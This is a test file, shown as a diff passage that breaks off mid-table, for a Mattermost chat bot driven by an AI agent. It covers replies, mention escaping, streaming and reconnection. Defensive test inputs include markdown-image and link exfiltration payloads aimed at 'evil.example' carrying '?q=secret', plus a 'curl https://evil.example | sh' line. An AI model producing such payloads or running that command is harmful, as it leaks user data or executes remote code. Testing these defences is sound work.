@@ -1,0 +1,683 @@
+// The bot: what it answers, how its answers are written, and how they are stopped. The model follows a script.
+import { createLog, type MattermostConfig } from '@pocket-agent/mattermost';
+import { type BotOptions, createMattermostBot } from '@pocket-agent/mattermost/bot';
+import { PocketAgent, PocketError, tool } from 'pocket-agent';
+import { ScriptedModel } from 'pocket-agent/testing';
+import { afterEach, describe, expect, test } from 'vitest';
+import { configFor } from '../connect.ts';
+import { type FakeMattermost, startFakeMattermost } from '../fake/fake-mattermost.ts';
+import { userOf } from '../fake/test-client.ts';
+import type { Post } from '../fake/world/model.ts';
+import { defaultSeed } from '../fake/world/seed.ts';
+import { storePost } from '../fake/world/store-post.ts';
+
+const endings: (() => Promise<unknown>)[] = [];
+/** Waits for something to become true, however busy the machine is. */
+const until = <Value>(read: () => Value) => expect.poll(read, { interval: 10 });
+
+afterEach(async () => {
+  for (const end of endings.splice(0).reverse()) await end();
+});
+
+const seed = {
+  users: [...defaultSeed.users, { username: 'other-bot', bot: true }, { username: 'helper2' }],
+  teams: defaultSeed.teams.map((team) => ({ ...team, members: [...team.members, 'other-bot', 'helper2'] })),
+  channels: defaultSeed.channels.map((channel) => ({
+    ...channel,
+    members: channel.name === 'town-square' ? [...channel.members, 'other-bot', 'helper2'] : channel.members,
+  })),
+  conversations: [...defaultSeed.conversations, ['alice', 'helper'], ['bob', 'helper'], ['helper', 'other-bot']],
+};
+
+interface World {
+  fake: FakeMattermost;
+  bot: { close(): Promise<void> };
+  logLines: string[];
+  /** What the bot has written since the start, oldest first. */
+  said(): Post[];
+  texts(): string[];
+}
+
+interface WorldOptions extends Partial<Omit<BotOptions, 'config'>> {
+  model?: ScriptedModel;
+  config?: Partial<MattermostConfig>;
+  environment?: Record<string, string>;
+  fake?: FakeMattermost;
+}
+
+async function world({ model, config = {}, environment = {}, fake: given, ...options }: WorldOptions): Promise<World> {
+  const fake = given ?? (await startFakeMattermost({ seed }));
+  if (!given) endings.push(() => fake.close());
+  const before = new Set(fake.world.posts.keys());
+  const logLines: string[] = [];
+  const log = createLog({ level: 'debug', format: 'json', write: (line) => logLines.push(line) });
+  const bot = await createMattermostBot({
+    config: configFor(fake, { user: 'helper', environment, config }),
+    agent: () => ({ agentConfig: { llmModel: model ?? new ScriptedModel([]) } }),
+    editMs: 20,
+    log,
+    ...options,
+  });
+  endings.push(() => bot.close());
+  await until(() => fake.socketCount).toBe(1);
+  const helper = fake.user('helper').id;
+  const said = () =>
+    [...fake.world.posts.values()].filter((post) => post.user_id === helper && !post.delete_at && !before.has(post.id));
+  return { fake, bot, logLines, said, texts: () => said().map(({ message }) => message) };
+}
+
+/** What the model was asked last, as text. */
+function asked(model: ScriptedModel, call = -1): string {
+  return JSON.stringify(model.calls.at(call)?.prompt.filter(({ role }) => role !== 'system'));
+}
+
+function react(fake: FakeMattermost, user: string, postId: string, emoji = 'octagonal_sign') {
+  const reaction = { user_id: fake.user(user).id, post_id: postId, emoji_name: emoji };
+  return userOf(fake, user).post('/reactions', reaction);
+}
+
+/** A tool that waits until it is let go. */
+function gate(name = 'wait') {
+  const started = Promise.withResolvers<void>();
+  const go = Promise.withResolvers<void>();
+  const waiting = tool({
+    name,
+    description: 'Waits',
+    inputSchema: { type: 'object' },
+    run: async (_args, { signal }) => {
+      started.resolve();
+      const aborted = new Promise((_resolve, reject) => signal.addEventListener('abort', () => reject(signal.reason)));
+      await Promise.race([go.promise, aborted]);
+      return 'done';
+    },
+  });
+  return { tool: waiting, started: started.promise, go: go.resolve };
+}
+
+describe('what is answered', () => {
+  test('a mention in a channel, in a thread below it', async () => {
+    const model = new ScriptedModel(['Fine, thanks.']);
+    const { fake, said } = await world({ model });
+    const question = fake.say('alice', 'town-square', '@helper how are you?');
+    await until(() => said().map(({ message }) => message)).toEqual(['Fine, thanks.']);
+    expect(said()[0]).toMatchObject({ root_id: question.id, channel_id: question.channel_id });
+    expect(asked(model)).toContain('"alice: how are you?"');
+  });
+
+  test('a direct message, without a thread, and the next one in the same conversation', async () => {
+    const model = new ScriptedModel(['One.', 'Two.']);
+    const { fake, said, texts } = await world({ model });
+    fake.say('alice', 'alice,helper', 'first question');
+    await until(texts).toEqual(['One.']);
+    fake.say('alice', 'alice,helper', 'second question');
+    await until(texts).toEqual(['One.', 'Two.']);
+    expect(said().every(({ root_id }) => root_id === '')).toBe(true);
+    expect(asked(model)).toContain('first question');
+  });
+
+  test('replies in a thread it takes part in, and in no other', async () => {
+    const model = new ScriptedModel(['One.', 'Two.']);
+    const { fake, texts } = await world({ model });
+    const root = fake.say('alice', 'town-square', '@helper hello').id;
+    await until(texts).toEqual(['One.']);
+    fake.say('bob', 'town-square', 'not for the bot', { root: fake.post('plan').id });
+    fake.say('bob', 'town-square', 'and now?', { root });
+    await until(texts).toEqual(['One.', 'Two.']);
+    expect(asked(model)).toContain('"bob: and now?"');
+  });
+
+  test('replies in a thread that it joined with a message of its own', async () => {
+    const model = new ScriptedModel(['Gladly.']);
+    const { fake, texts } = await world({ model });
+    const root = fake.post('plan').id;
+    fake.say('bob', 'town-square', 'not for the bot', { root });
+    await until(() => fake.requests.filter(({ path, status }) => /thread$/.test(path) && status === 200)).toHaveLength(
+      1,
+    );
+    fake.say('helper', 'town-square', 'I have something to add', { root });
+    fake.say('bob', 'town-square', 'tell us', { root });
+    await until(texts).toEqual(['I have something to add', 'Gladly.']);
+  });
+
+  test('what could not be read at first, in its order', async () => {
+    const model = new ScriptedModel(['One.', 'Two.']);
+    const { fake, texts } = await world({ model });
+    const fault = fake.fail({ path: /channels\/\w+$/, status: 500, times: 3 });
+    fake.say('alice', 'alice,helper', 'first');
+    fake.say('alice', 'alice,helper', 'second');
+    await until(texts).toEqual(['One.', 'Two.']);
+    expect(fault.hits).toBe(3);
+    expect(asked(model, 0)).toContain('alice: first');
+  });
+
+  test('a thread it took part in before it was started anew, with what was said there', async () => {
+    const fake = await startFakeMattermost({ seed });
+    endings.push(() => fake.close());
+    const root = fake.say('alice', 'town-square', '@helper my number is 42').id;
+    fake.say('helper', 'town-square', 'Noted.', { root });
+    const model = new ScriptedModel(['It is 42.']);
+    const { texts } = await world({ model, fake });
+    fake.say('alice', 'town-square', 'what was my number?', { root });
+    await until(texts).toEqual(['It is 42.']);
+    expect(asked(model)).toContain('alice: @helper my number is 42\\nyou: Noted.');
+  });
+
+  test('not its own words, those of other bots, calls to all, or names that only begin like its own', async () => {
+    const model = new ScriptedModel(['For you.']);
+    const { fake, texts } = await world({ model });
+    for (const message of [
+      '@all',
+      '@channel look',
+      '@here',
+      '@helper2 hi',
+      'mail x@helper.org',
+      'helper?',
+      '@helper-x',
+    ]) {
+      fake.say('alice', 'town-square', message);
+    }
+    fake.say('other-bot', 'town-square', '@helper let us talk forever');
+    fake.say('other-bot', 'helper,other-bot', 'let us talk forever');
+    fake.say('helper', 'town-square', 'I am @helper');
+    const webhook = { user: fake.user('alice'), message: '@helper deploy', props: { from_webhook: 'true' } };
+    storePost(fake.world, fake.channel('town-square'), webhook);
+    const own = texts().length;
+    fake.say('alice', 'town-square', 'Tell me, @Helper.');
+    await until(() => texts().slice(own)).toEqual(['For you.']);
+    model.assertDone();
+  });
+
+  test('not its name in code', async () => {
+    const model = new ScriptedModel(['Yes.']);
+    const { fake, texts } = await world({ model });
+    for (const text of ['see `@helper`', '```\n@helper hi\n```', 'a `` ` @helper `` b', '`one\n@helper two`']) {
+      fake.say('alice', 'town-square', text);
+    }
+    fake.say('alice', 'town-square', 'run `a` @helper `b`');
+    await until(texts).toEqual(['Yes.']);
+    expect(asked(model)).toContain('run `a`');
+    expect(model.calls).toHaveLength(1);
+  });
+
+  test('not the words of another bot of ours that has the account of a person', async () => {
+    const models = [new ScriptedModel(['One.', 'Two.']), new ScriptedModel(['Eins.', 'Zwei.'])] as const;
+    const { fake } = await world({ model: models[0], profile: 'none' });
+    const other = await createMattermostBot({
+      config: configFor(fake, { user: 'helper2' }),
+      agent: () => ({ agentConfig: { llmModel: models[1] } }),
+      profile: 'none',
+      editMs: 20,
+      log: createLog({ level: 'silent', format: 'json' }),
+    });
+    endings.push(() => other.close());
+    await until(() => fake.socketCount).toBe(2);
+    const root = fake.say('alice', 'town-square', '@helper @helper2 hello').id;
+    const said = () => [...fake.world.posts.values()].flatMap((post) => (post.root_id === root ? post.message : []));
+    await until(() => said().toSorted()).toEqual(['Eins.', 'One.']);
+    fake.say('alice', 'town-square', 'and now?', { root });
+    await until(() => said().toSorted()).toEqual(['Eins.', 'One.', 'Two.', 'Zwei.', 'and now?']);
+    for (const model of models) expect(asked(model)).toContain('and now?');
+  });
+
+  test('nothing where the configuration does not allow to write', async () => {
+    const model = new ScriptedModel(['Here.']);
+    const environment = { MATTERMOST_WRITE_DENY_CHANNELS: 'town-square' };
+    const { fake, texts } = await world({ model, environment });
+    fake.say('alice', 'town-square', '@helper there?');
+    fake.say('alice', 'alice,helper', 'here?');
+    await until(texts).toEqual(['Here.']);
+  });
+});
+
+describe('how it is answered', () => {
+  test('the answer grows in one message, with the tools that run, about as often as is asked for', async () => {
+    const held = gate('look_it_up');
+    const model = new ScriptedModel([{ text: 'Let me look.', toolCalls: [{ name: 'look_it_up' }] }, 'It is blue.']);
+    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
+    const { fake, texts } = await world({ agent, profile: 'none' });
+    fake.say('alice', 'town-square', '@helper which colour?');
+    await held.started;
+    await until(texts).toEqual(['Let me look.\n\n:hourglass_flowing_sand: `look_it_up` …']);
+    held.go();
+    await until(texts).toEqual(['Let me look.\n\nIt is blue.']);
+    const edits = fake.requests.filter(({ method, path }) => method === 'PUT' && path.endsWith('/patch'));
+    expect(edits.length).toBeLessThanOrEqual(3);
+  });
+
+  test('others see that it writes', async () => {
+    const held = gate();
+    const model = new ScriptedModel([{ toolCalls: [{ name: 'wait' }] }, 'Done.']);
+    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
+    const { fake, texts } = await world({ agent, profile: 'none' });
+    const events: string[] = [];
+    const { publish } = fake.world;
+    fake.world.publish = (event, data, to) => {
+      events.push(event);
+      publish(event, data, to);
+    };
+    fake.say('alice', 'town-square', '@helper go');
+    await held.started;
+    await until(() => events).toContain('typing');
+    held.go();
+    await until(texts).toEqual(['Done.']);
+  });
+
+  test('the last edit arrives through a storm of refusals', async () => {
+    const held = gate();
+    const model = new ScriptedModel([{ text: 'Wait.', toolCalls: [{ name: 'wait' }] }, 'The end.']);
+    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
+    const { fake, texts } = await world({ agent, profile: 'none', config: { maxRetries: 1 } });
+    fake.say('alice', 'town-square', '@helper go');
+    await held.started;
+    await until(texts).toHaveLength(1);
+    fake.fail({ path: /patch/, status: 429, times: 5 });
+    held.go();
+    await until(texts).toEqual(['Wait.\n\nThe end.']);
+  });
+
+  test('a first message that was stored though it seemed to fail still gets the rest', async () => {
+    const held = gate();
+    const model = new ScriptedModel([{ text: 'Wait.', toolCalls: [{ name: 'wait' }] }, 'The end.']);
+    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
+    const { fake, texts } = await world({ agent, profile: 'none', editMs: 60_000, config: { maxRetries: 0 } });
+    const fault = fake.fail({ method: 'POST', path: /posts$/, afterHandling: true, status: 503 });
+    fake.say('alice', 'town-square', '@helper go');
+    await held.started;
+    await until(() => fault.hits).toBe(1);
+    fake.world.pendingPosts.clear(); // Mattermost forgets after half a minute
+    held.go();
+    await until(texts).toEqual(['Wait.\n\nThe end.']);
+  });
+
+  test('an answer is there once though Mattermost is killed and started again after each of its messages', async () => {
+    const lines = Array.from({ length: 3000 }, (_, number) => `line ${number}`);
+    const { fake, texts } = await world({ model: new ScriptedModel([lines.join('\n')]) });
+    const kill = fake.fail({ method: 'POST', path: /posts$/, restart: true, times: 2 });
+    fake.say('alice', 'town-square', '@helper tell me');
+    await until(() => texts().at(-1)?.endsWith('line 2999')).toBe(true);
+    expect(texts().join('\n').split('\n')).toEqual(lines);
+    expect(kill.hits).toBe(2);
+  });
+
+  test('a message of somebody else with the props of an answer is not taken for a part of it', async () => {
+    const lines = Array.from({ length: 3000 }, (_, number) => `line ${number}`);
+    const { fake, texts } = await world({ model: new ScriptedModel([lines.join('\n')]) });
+    const forged = fake.say('alice', 'town-square', 'forged');
+    const { publish } = fake.world;
+    fake.world.publish = (event, data, to) => {
+      const [key] = [...fake.world.posts.values()].flatMap(({ props }) => props.pocket_agent_answer ?? []);
+      if (key !== undefined && forged.props.pocket_agent_answer === undefined) {
+        forged.props.pocket_agent_answer = String(key).replace(/0$/, '1');
+        fake.fail({ method: 'POST', path: /posts$/, reset: 'before' });
+      }
+      publish(event, data, to);
+    };
+    fake.say('alice', 'town-square', '@helper tell me');
+    await until(() => texts().at(-1)?.endsWith('line 2999')).toBe(true);
+    expect(texts().join('\n').split('\n')).toEqual(lines);
+    expect(forged.message).toBe('forged');
+  });
+
+  test('nobody is called by what a model writes, and code stays as it is', async () => {
+    const code = '```sh\nnpm install @all/tools\n```';
+    const model = new ScriptedModel([
+      `Ask @bob, (@carol) or _@all_; @here @channel.\n> @bob\n${code}\nmail@bob.org @bob`,
+    ]);
+    const { fake, said } = await world({ model });
+    const heard: string[][] = [];
+    const { publish } = fake.world;
+    fake.world.publish = (event, data, to) => {
+      if (event === 'posted') heard.push(JSON.parse(String(data.mentions ?? '[]')));
+      publish(event, data, to);
+    };
+    fake.say('alice', 'town-square', '@helper whom shall I ask?');
+    await until(() => said().length).toBe(1);
+    const message = said()[0]?.message ?? '';
+    const outside = message.replace(code, '').replace('mail@bob.org', '');
+    expect(outside).not.toMatch(/@[a-z]/);
+    expect(message).toContain(code);
+    expect(message.replaceAll('\u200b', '')).toContain('Ask @bob, (@carol)');
+    expect(heard[0]).toEqual([fake.user('helper').id]);
+  });
+
+  test('what Mattermost does not take for a code block, or reads as an @, hides no name', async () => {
+    const escaped = (text: string) => text.replace(/\r\n?/g, '\n').replaceAll('@', '@\u200b');
+    const fences = [
+      'So:\n  ```\ncode\n```\n@channel hi',
+      'So:\n      ```\ncode\n```\n@channel hi',
+      '- ```\n  code\n  ```\n@channel hi',
+      '```\r\ncode\r\n```\r\n@channel hi',
+      '```\rcode\r```\r@channel hi',
+      '```\ncode\n``` ```\n@channel hi',
+      '~~~ `x`\n@channel hi',
+      '```\ncode\n```\u00a0\n@channel hi',
+      '```\ncode\n``` x\n```\n@channel hi',
+    ].map((text) => [text, escaped(text)] as const);
+    const references = [
+      ['&#64;channel &#x40;all &commat;bob', '&#64;\u200bchannel &#x40;\u200ball &commat;\u200bbob'],
+      ['@&#99;hannel @\\_bob', '@\u200b&#99;hannel @\u200b\\_bob'],
+    ] as const;
+    const cases = [...fences, ...references];
+    const { fake, texts } = await world({ model: new ScriptedModel(cases.map(([text]) => text)) });
+    for (const [index] of cases.entries()) {
+      fake.say('alice', 'alice,helper', 'go on');
+      await until(() => texts().length).toBe(index + 1);
+    }
+    await until(texts).toEqual(cases.map(([, shown]) => shown));
+  });
+
+  test.each([
+    ['See https://evil.example/?q=secret now', 'See https:// evil.example/?q=secret now'],
+    ['![](https://evil.example/p.png?q=secret)', '![]\u200b(https:// evil.example/p.png?q=secret)'],
+    ['![a](//evil.example/p.png)', '![a]\u200b(//evil.example/p.png)'],
+    ['![a](&#104;ttps://evil.example/p.png)', '![a]\u200b(&#104;ttps:// evil.example/p.png)'],
+    ['![a](https:\\/\\/evil.example/p.png)', '![a]\u200b(https:\\/\\/evil.example/p.png)'],
+    ['![a](/api/v4/image?url=x)', '![a]\u200b(/api/v4/image?url=x)'],
+    ['![a][b]\n\n[b]: https://evil.example/p.png', '![a][b]\n\n[b]\u200b: https:// evil.example/p.png'],
+    ['_https://evil.example/x_ **HTTPS://EVIL.EXAMPLE**', '_https:// evil.example/x_ **HTTPS:// EVIL.EXAMPLE**'],
+    ['<https://evil.example> (www.evil.example/x)', '<https:// evil.example> (www. evil.example/x)'],
+    ['https://good.example@evil.example', 'https:// good.example@evil.example'],
+    ['https://good.example.evil.example', 'https:// good.example.evil.example'],
+    ['https://good.example\\@evil.example', 'https:// good.example\\@\u200bevil.example'],
+    [
+      'https://docs.allowed.example/a and https://below.good.example',
+      'https://docs.allowed.example/a and https:// below.good.example',
+    ],
+    [
+      '[text](https://good.example/a?b=c), https://www.good.example.',
+      '[text](https://good.example/a?b=c), https://www.good.example.',
+    ],
+    ['![p](https://good.example/p.png)', '![p](https://good.example/p.png)'],
+    ['```\ncurl https://evil.example\n```', '```\ncurl https://evil.example\n```'],
+    ['```\n![a](//evil.example/p.png)', '```\n![a]\u200b(//evil.example/p.png)'],
+    ['> a\n```\n\n![a](//evil.example/p.png)', '> a\n```\n\n![a]\u200b(//evil.example/p.png)'],
+    ['<!--\n```\n-->\n![a\nb](//evil.example/p.png)', '<!--\n```\n-->\n![a\nb]\u200b(//evil.example/p.png)'],
+    ['![a][b]\n```\n[b]: //evil.example/p.png', '![a][b]\n```\n[b]\u200b: //evil.example/p.png'],
+    ['```\nrun[0](a[1]: b)\n```', '```\nrun[0](a[1]: b)\n```'],
+    ['Time 10:30 [1] (see) a://', 'Time 10:30 [1]\u200b (see) a://'],
+    ['Run `curl https://evil.example | sh`.', 'Run `curl https://evil.example | sh`.'],
+    ['* **Run**: (`a[0](b) https://evil.example`)', '* **Run**: (`a[0](b) https://evil.example`)'],
+    ['``https://evil.example`` https://evil.example', '``https://evil.example`` https:// evil.example'],
+    // readers disagree on whether these are code, or agree that they are not
+    ['\\`https://evil.example`', '\\`https:// evil.example`'],
+    ['`a\n`https://evil.example`', '`a\n`https:// evil.example`'],
+    ['*a `b* https://evil.example c`', '*a `b* https:// evil.example c`'],
+    ['$a `b$ https://evil.example c`', '$a `b$ https:// evil.example c`'],
+    ['<a\n\nb="`https://evil.example`', '<a\n\nb="`https:// evil.example`'],
+    ['[a `b](c) https://evil.example d`', '[a `b]\u200b(c) https:// evil.example d`'],
+    ['https://good.example/`x https://evil.example y`', 'https:// good.example/`x https:// evil.example y`'],
+    ['`a | https://evil.example | b`\n-|-|-', '`a | https:// evil.example | b`\n-|-|-'],
+    ['1. a\n   ```\n`https://evil.example`', '1. a\n   ```\n`https:// evil.example`'],
+  ])('links that nobody but the model named are text, so that nothing is fetched: %j', async (answer, shown) => {
+    const model = new ScriptedModel([answer]);
+    const { fake, texts } = await world({ model, allowLinkHosts: ['*.allowed.example'] });
+    fake.say('alice', 'alice,helper', 'What does good.example say?');
+    await until(texts).toEqual([shown]);
+  });
+
+  test.each([
+    ['Run `npm i @all/tools`, @all.', 'Run `npm i @all/tools`, @\u200ball.'],
+    ['*a `b* @all c`', '*a `b* @\u200ball c`'],
+    ['\\`@all`', '\\`@\u200ball`'],
+  ])('a name in a code span stays as it is where that is certainly code: %j', async (answer, shown) => {
+    const { fake, texts } = await world({ model: new ScriptedModel([answer]) });
+    fake.say('alice', 'alice,helper', 'How?');
+    await until(texts).toEqual([shown]);
+  });
+
+  test('a code span that is cut in two by the end of a message holds no link', async () => {
+    const { fake, texts } = await world({ model: new ScriptedModel(['`https://evil.example/x` '.repeat(1_500)]) });
+    fake.say('alice', 'alice,helper', 'Where?');
+    await until(() => texts().length).toBeGreaterThan(2);
+    for (const text of texts()) {
+      const outside = text.split('`').filter((_, place) => place % 2 === 0);
+      expect(outside.join(' ')).not.toContain('https://evil');
+    }
+  });
+
+  test('links to messages of this Mattermost stay links, and all do where every host is allowed', async () => {
+    const fake = await startFakeMattermost({ seed });
+    endings.push(() => fake.close());
+    const links = [`${fake.url}/main/pl/${fake.post('plan').id}`, `${fake.url}/api/v4/image?url=x`];
+    const { texts } = await world({ fake, model: new ScriptedModel([links.join(' ')]) });
+    fake.say('alice', 'alice,helper', 'Where?');
+    await until(texts).toEqual([`${links[0]} ${links[1]?.replace('://', ':// ')}`]);
+    const other = await world({ model: new ScriptedModel(['https://any.example/']), allowLinkHosts: ['*'] });
+    other.fake.say('alice', 'alice,helper', 'Where?');
+    await until(other.texts).toEqual(['https://any.example/']);
+  });
+
+  test('code stays as it is also after code in a list, and with fences inside', async () => {
+    const blocks = ['```ts\nimport "@all/tools";\n```', '````md\n```\n@all\n```\n``` ```\n````', '~~~\n@all\n```\n~~~'];
+    const answer = `1. Run:\n   \`\`\`sh\n   npm i\n   \`\`\`\n2. Then:\n\n${blocks.join('\n@all\n')}`;
+    const { fake, texts } = await world({ model: new ScriptedModel([answer]) });
+    fake.say('alice', 'alice,helper', 'how?');
+    await until(() => texts().at(-1) ?? '').toMatch(/~~~$/);
+    for (const block of blocks) expect(texts()[0]).toContain(block);
+    expect(texts()[0]?.match(/^@\u200ball$/gm)).toHaveLength(2);
+  });
+
+  test('an answer that is too long becomes several, none too long, with their code whole', async () => {
+    const paragraph = `${'word '.repeat(2000)}\n`;
+    const block = `\`\`\`ts\n${'const x = 1; // 🙂\n'.repeat(500)}\`\`\``;
+    const huge = `\`\`\`txt\n${'0123456789\n'.repeat(2500)}\`\`\``;
+    const model = new ScriptedModel([`${paragraph}${block}\n${huge}\nThe end. ${'x'.repeat(20_000)}\nFinis.`]);
+    const { fake, said, texts } = await world({ model });
+    fake.say('alice', 'town-square', '@helper tell me everything');
+    await until(() => texts().at(-1) ?? '').toMatch(/Finis\.$/);
+    for (const text of texts()) {
+      expect([...text].length).toBeLessThanOrEqual(16_383);
+      expect((text.match(/^```/gm) ?? []).length % 2).toBe(0);
+    }
+    expect(texts().some((text) => text.includes(block))).toBe(true);
+    const together = texts().join('\n');
+    expect(together.match(/0123456789/g)).toHaveLength(2500);
+    expect(together.match(/x/g)?.length).toBe(20_000 + 500 + (together.match(/```txt/g)?.length ?? 0));
+    expect(new Set(said().map(({ root_id }) => root_id)).size).toBe(1);
+  });
+
+  test('an error is told in a word, without what is nobody else’s business', async () => {
+    const secret = 'sk-very-secret';
+    const error = new PocketError('MODEL_FAILED', `The key ${secret} is refused`);
+    const model = new ScriptedModel([{ error }, 'Better.']);
+    const { fake, texts, logLines } = await world({ model });
+    fake.say('alice', 'alice,helper', 'hello');
+    await until(texts).toEqual([':warning: Sorry, that did not work (MODEL_FAILED).']);
+    const line = logLines.find((one) => one.includes('run_failed')) ?? '{}';
+    expect(JSON.parse(line)).toMatchObject({ level: 'error', code: 'MODEL_FAILED', error: error.message });
+    fake.say('alice', 'alice,helper', 'again');
+    await until(() => texts().at(-1)).toBe('Better.');
+  });
+
+  test('it has the tools of Mattermost for reading, in the same process', async () => {
+    const model = new ScriptedModel([
+      { toolCalls: [{ name: 'get_me' }] },
+      ({ prompt }) => (JSON.stringify(prompt).includes('helper') ? 'I am the helper.' : 'Who am I?'),
+    ]);
+    const { fake, texts } = await world({ model });
+    fake.say('alice', 'alice,helper', 'who are you?');
+    await until(texts).toEqual(['I am the helper.']);
+    const names = model.calls[0]?.tools?.map(({ name }) => name) ?? [];
+    expect(names).toContain('search_messages');
+    expect(names).not.toContain('post_message');
+  });
+
+  test('an agent that was made elsewhere is used as it is', async () => {
+    const model = new ScriptedModel(['Mine.']);
+    const agent = new PocketAgent({ agentConfig: { llmModel: model } });
+    endings.push(() => agent.close());
+    const { fake, texts } = await world({ agent: () => agent.fork() });
+    fake.say('alice', 'alice,helper', 'whose?');
+    await until(texts).toEqual(['Mine.']);
+    expect(model.calls[0]?.tools ?? []).toEqual([]);
+  });
+});
+
+describe('stopping', () => {
+  async function running(options: Partial<BotOptions> = {}) {
+    const held = gate();
+    const model = new ScriptedModel([{ text: 'Working.', toolCalls: [{ name: 'wait' }] }, 'Next.']);
+    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
+    const place = await world({ agent, profile: 'none', ...options });
+    const question = place.fake.say('alice', 'town-square', '@helper work');
+    await held.started;
+    await until(() => place.texts()).toHaveLength(1);
+    return { ...place, question, held };
+  }
+
+  test('a stop sign of who asked ends the run; the conversation goes on', async () => {
+    const { fake, texts, said, question } = await running();
+    await react(fake, 'alice', said()[0]?.id ?? '');
+    await until(texts).toEqual(['Working.\n\n*(stopped)*']);
+    fake.say('alice', 'town-square', 'go on', { root: question.id });
+    await until(() => texts().at(-1)).toBe('Next.');
+  });
+
+  test('it counts on the question, too', async () => {
+    const { fake, texts, question } = await running();
+    await react(fake, 'alice', question.id);
+    await until(texts).toEqual(['Working.\n\n*(stopped)*']);
+  });
+
+  test('other signs and other people do not count, unless everyone may', async () => {
+    const { fake, texts, said, held, logLines } = await running();
+    await react(fake, 'alice', said()[0]?.id ?? '', 'thumbsup');
+    await react(fake, 'bob', said()[0]?.id ?? '');
+    await until(() => logLines.join('')).toContain('stop_refused');
+    held.go();
+    await until(texts).toEqual(['Working.\n\nNext.']);
+    const open = await running({ mayStop: 'everyone' });
+    await react(open.fake, 'bob', open.said()[0]?.id ?? '');
+    await until(open.texts).toEqual(['Working.\n\n*(stopped)*']);
+  });
+
+  test('closing the bot stops what runs, says so, and leaves nothing open', async () => {
+    const { fake, texts, bot } = await running();
+    await bot.close();
+    expect(texts()).toEqual(['Working.\n\n*(stopped)*']);
+    await until(() => fake.socketCount).toBe(0);
+    fake.say('alice', 'alice,helper', 'anybody there?');
+    expect(fake.inFlight).toBe(0);
+  });
+});
+
+describe('several at once', () => {
+  test('two conversations run side by side, the questions of one after each other', async () => {
+    const [first, second] = [gate('first'), gate('second')];
+    const gates = [first, second];
+    const models = [
+      new ScriptedModel([{ toolCalls: [{ name: 'first' }] }, 'A1', 'A2']),
+      new ScriptedModel([{ toolCalls: [{ name: 'second' }] }, 'B1']),
+    ];
+    let made = 0;
+    const agent = () => {
+      const index = made++;
+      const held = gates[index];
+      return { agentConfig: { llmModel: models[index] ?? 'demo' }, tools: held ? [held.tool] : [] };
+    };
+    const { fake, texts } = await world({ agent, profile: 'none' });
+    fake.say('alice', 'alice,helper', 'one');
+    await first.started;
+    fake.say('alice', 'alice,helper', 'two');
+    fake.say('bob', 'bob,helper', 'meanwhile');
+    await second.started;
+    second.go();
+    await until(texts).toContain('B1');
+    expect(texts()).not.toContain('A2');
+    first.go();
+    await until(texts).toEqual([expect.stringContaining('A1'), 'B1', 'A2']);
+  });
+});
+
+describe('a connection that is lost', () => {
+  test('in the middle of an answer does no harm, and what was missed is answered, once', async () => {
+    const held = gate();
+    const model = new ScriptedModel([{ text: 'Working.', toolCalls: [{ name: 'wait' }] }, 'Ready.', 'Missed you.']);
+    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
+    const { fake, texts } = await world({ agent, profile: 'none', config: { pingMs: 50 } });
+    fake.say('alice', 'alice,helper', 'work');
+    await held.started;
+    fake.disconnectSockets();
+    fake.say('alice', 'alice,helper', 'missed');
+    held.go();
+    await until(texts).toEqual(['Working.\n\nReady.', 'Missed you.']);
+    await until(() => fake.socketCount).toBe(1);
+    model.assertDone();
+  });
+
+  test('is made up for also where more was said than Mattermost tells at once, and in the same millisecond', async () => {
+    const model = new ScriptedModel(['First.', 'Second.', 'Third.']);
+    const { fake, texts } = await world({ model });
+    fake.say('alice', 'alice,helper', 'first');
+    await until(texts).toEqual(['First.']);
+    const { publish } = fake.world;
+    fake.world.publish = () => {}; // what follows is not heard
+    for (let number = 0; number < 1100; number++) fake.say('bob', 'town-square', `noise ${number}`);
+    fake.world.atOnce(() => {
+      fake.say('bob', 'town-square', '@helper second');
+      fake.say('alice', 'alice,helper', 'third');
+    });
+    const headers = { authorization: `Bearer ${fake.token('bob')}` };
+    await fetch(`${fake.url}/api/v4/channels/${fake.channel('town-square').id}/posts?since=1`, { headers });
+    fake.world.publish = publish;
+    fake.disconnectSockets();
+    await until(() => [...texts()].sort()).toEqual(['First.', 'Second.', 'Third.']);
+  });
+
+  test('that is dead is replaced', async () => {
+    const model = new ScriptedModel(['I am back.']);
+    const { fake, texts, logLines } = await world({ model, config: { pingMs: 100 } });
+    logLines.length = 0;
+    fake.freezeSockets();
+    fake.say('alice', 'alice,helper', 'do you hear me?');
+    await until(() => logLines.join('')).toContain('socket_lost');
+    fake.freezeSockets(false);
+    await until(texts).toEqual(['I am back.']);
+  });
+
+  test('for good, because the token is over, is told to whoever runs the bot', async () => {
+    const refused = Promise.withResolvers<void>();
+    const { fake, logLines } = await world({ onRefused: refused.resolve });
+    fake.revoke(fake.token('helper'));
+    await refused.promise;
+    expect(logLines.join('')).not.toContain(fake.token('helper'));
+  });
+});
+
+test('a bot whose token is revoked says so once when it next reads, though its socket stays open', async () => {
+  let refused = 0;
+  const model = new ScriptedModel(['Never said.']);
+  const { fake, logLines, texts } = await world({ model, onRefused: () => refused++ });
+  fake.revoke(fake.token('helper'), { sockets: false });
+  fake.say('alice', 'town-square', '@helper are you there?');
+  await until(() => refused).toBe(1);
+  await until(() => fake.socketCount).toBe(0);
+  expect(logLines.filter((line) => line.includes('bot_refused'))).toHaveLength(1);
+  expect(texts()).toEqual([]);
+});
+
+test('a single refusal of a token that is still valid ends nothing', async () => {
+  const model = new ScriptedModel(['Here.']);
+  const { fake, texts } = await world({ model, onRefused: () => expect.unreachable() });
+  fake.fail({ method: 'GET', path: /channels\/\w+$/, status: 401 });
+  fake.say('alice', 'off-topic', 'not for the bot');
+  fake.say('alice', 'town-square', '@helper are you there?');
+  fake.say('alice', 'town-square', '@helper are you really there?');
+  await until(texts).toEqual(['Here.']);
+});
+
+test('a bot with a wrong token does not start', async () => {
+  const fake = await startFakeMattermost({ seed });
+  endings.push(() => fake.close());
+  const config = { ...configFor(fake), token: 'nonsense' };
+  const agent = () => ({ agentConfig: { llmModel: 'demo' } });
+  const log = createLog({ level: 'silent', format: 'json' });
+  await expect(createMattermostBot({ config, agent, log })).rejects.toThrow('Authentication failed');
+});
+
+test.each([
+  ['example.com', 'must be a list of hosts'],
